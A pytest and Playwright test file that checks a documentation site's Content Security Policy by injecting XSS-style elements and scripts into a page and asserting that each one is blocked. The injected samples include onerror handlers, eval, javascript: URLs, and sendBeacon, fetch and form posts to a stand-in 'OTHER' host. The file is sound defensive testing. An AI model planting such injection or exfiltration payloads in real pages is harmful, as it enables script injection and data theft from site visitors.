"""The content policy in a real browser: the whole site works, and nothing else does."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.helpers.policies import COMPILE
from tests.helpers.reader import Read, page_policy, settle
from tests.helpers.static_host import StaticHost


@pytest.fixture(scope="module")
def host(site: Path) -> Iterator[StaticHost]:
    """The built site on a host that sends its header file: both policies hold."""
    with StaticHost(site, page_policy(site)) as running:
        yield running
        assert running.reports == []


def test_search_the_palette_and_the_page_for_a_missing_address(read: Read) -> None:
    reader = read()
    page = reader.open("no-such-page.html")
    assert [one for one in reader.wrong if "404" not in one] == []  # which the browser reports
    reader.wrong.clear()
    expect(page.locator("h1")).to_have_text("Not in this document")
    page.get_by_title("Read on dark paper").click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    page.goto(page.url.replace("no-such-page", "index"))
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    box = page.get_by_role("textbox", name="Search")
    box.press_sequentially("commission")
    expect(page.locator(".md-search-result__item").first).to_be_visible()
    box.press("Enter")
    expect(page).not_to_have_url(re.compile("index.html$"))


def test_a_calculator_on_a_host_that_can_send_no_policy(read: Read, site: Path) -> None:
    with StaticHost(site, "") as plain:
        page = read(plain).open("fees.html#v1&gross_proceeds=12000000")
        settle(page)
        expect(page.locator("[data-output=commission]").first).to_have_text("$470,000")


@dataclass(frozen=True)
class Attacked:
    """A host with a page with injected content, and another host that must get no requests."""

    host: StaticHost
    other: StaticHost
    page: Page
    html: str
    found: list[str]

    def open(self, body: str = "", script: str = "") -> tuple[Page, list[str]]:
        """Open a page with `body` in it, and the site's own file evil.js; note the violations."""
        content = body.replace("OTHER", self.other.url)
        self.host.changed["index.html"] = self.html.replace("</h1>", f"</h1>{content}", 1).encode()
        self.host.changed["evil.js"] = script.replace("OTHER", self.other.url).encode()
        self.found.clear()
        self.page.goto(f"{self.host.url}index.html", wait_until="load")
        return self.page, self.found


@pytest.fixture(scope="module")
def attacked(site: Path, browser: Browser) -> Iterator[Attacked]:
    found: list[str] = []
    page = browser.new_page()
    page.expose_function("violated", partial(list.append, found))
    page.add_init_script(
        "addEventListener('securitypolicyviolation', (one) => violated(one.effectiveDirective))"
    )
    with StaticHost(site, "") as host, StaticHost(site, "") as other:
        yield Attacked(host, other, page, (site / "404.html").read_text(), found)
        page.close()


# What is injected into a page, what it would do, and the directive that blocks it.
INJECTED = {
    "a script": ("<script>ran = 1</script>", "script-src-elem"),
    "a module": ('<script type="module">ran = 1</script>', "script-src-elem"),
    "the theme's script, changed": (
        "<script>__md_scope=new URL('.',location);ran = 1</script>",
        "script-src-elem",
    ),
    "a handler": ('<img src="x" onerror="ran = 1">', "script-src-attr"),
    "a handler of a drawing": ('<svg onload="ran = 1"></svg>', "script-src-attr"),
    "a script of another host": ('<script src="OTHERevil.js"></script>', "script-src-elem"),
    "a script in its address": ('<script src="data:,ran=1"></script>', "script-src-elem"),
    "a picture of another host": ('<img src="OTHERassets/images/favicon.svg">', "img-src"),
    "a style sheet of another host": (
        '<link rel="stylesheet" href="OTHERassets/stylesheets/print.css">',
        "style-src-elem",
    ),
    "a style sheet": ("<style>h1 { color: rgb(1, 2, 3) }</style>", "style-src-elem"),
    "a style": ('<p style="position: fixed; inset: 0">Words</p>', "style-src-attr"),
    "a font of another host": (
        '<link rel="preload" as="font" crossorigin href="OTHERfont.woff2">',
        "font-src",
    ),
    "a frame": ('<iframe src="OTHERindex.html"></iframe>', "frame-src"),
    "a frame with its own content": (
        '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
        "script-src-elem",
    ),
    "an object": ('<object data="OTHERindex.html"></object>', "object-src"),
    "a film": ('<video src="OTHERfilm.mp4"></video>', "media-src"),
    "another base": ('<base href="OTHER">', "base-uri"),
}


@pytest.mark.parametrize(("body", "directive"), INJECTED.values(), ids=INJECTED)
def test_an_injected_element_does_nothing(attacked: Attacked, body: str, directive: str) -> None:
    page, found = attacked.open(body)
    for _ in range(40):
        if directive in found:
            break
        page.wait_for_timeout(25)
    color = "getComputedStyle(document.querySelector('h1')).color"
    assert directive in found
    assert page.evaluate("'ran' in window") is False
    assert page.evaluate(color) != "rgb(1, 2, 3)"
    assert attacked.other.sent == []


# What a script that got in anyway would do, and the directive that blocks it.
DONE = {
    "eval": ("eval('ran = 1')", "script-src"),
    "a function from text": ("Function('ran = 1')()", "script-src"),
    "text for a timer": ("setTimeout('ran = 1', 0)", "script-src"),
    "a handler": (
        "document.body.setAttribute('onclick', 'ran = 1'); document.body.click()",
        "script-src-attr",
    ),
    "an address": ("location.href = 'javascript:ran = 1'", "script-src-elem"),
    "WebAssembly": (
        f"{COMPILE}.then(() => ran = 1, () => {{}})",
        "script-src",
    ),
    "a question to another host": (
        "fetch('OTHERbuilt.js', {mode: 'no-cors'}).catch(() => {})",
        "connect-src",
    ),
    "a message to another host": ("navigator.sendBeacon('OTHER', 'all')", "connect-src"),
    "a worker of no file": ("new Worker(URL.createObjectURL(new Blob(['']))) ", "worker-src"),
    "a form": (
        """addEventListener("load", () => setTimeout(() => {
            document.forms[0].action = "OTHER";
            document.forms[0].submit();
        }, 100))""",
        "form-action",
    ),
}


@pytest.mark.parametrize(("script", "directive"), DONE.values(), ids=DONE)
def test_an_injected_script_can_do_little(attacked: Attacked, script: str, directive: str) -> None:
    page, found = attacked.open('<script src="evil.js" defer></script>', script)
    for _ in range(40):
        if directive in found:
            break
        page.wait_for_timeout(25)
    assert directive in found
    assert page.evaluate("'ran' in window") is False
    assert (attacked.other.sent, attacked.other.reports) == ([], [])


def test_no_other_host_may_frame_a_page(attacked: Attacked, site: Path, browser: Browser) -> None:
    with StaticHost(site, page_policy(site)) as host:
        frame = f'<iframe src="{host.url}index.html"></iframe>'
        attacked.other.changed["frame.html"] = frame.encode()
        page = browser.new_page()
        page.goto(f"{attacked.other.url}frame.html")
        page.wait_for_load_state("networkidle")
        assert "offering" not in page.frames[-1].content()
        assert [name for name, _ in host.sent] == ["index.html"]
        page.close()
    attacked.other.sent.clear()
